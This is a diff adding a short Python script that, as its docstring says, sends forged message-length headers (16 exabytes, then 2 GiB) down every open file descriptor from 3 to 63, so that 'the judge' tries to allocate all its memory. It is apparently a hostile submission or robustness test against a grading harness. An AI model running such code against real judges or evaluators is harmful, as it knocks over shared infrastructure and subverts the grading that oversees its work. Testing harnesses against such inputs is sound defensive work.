@@ -1,0 +1,15 @@
+"""Announces a message of 16 exabytes, then of 2 GiB, and sends it.
+
+Would make the judge allocate all memory.
+"""
+
+# %%
+import os
+import struct
+
+for number in range(3, 64):
+    try:
+        os.write(number, struct.pack("!iQ", -1, 2**63))
+        os.write(number, bytes(2**20))
+    except OSError:
+        pass
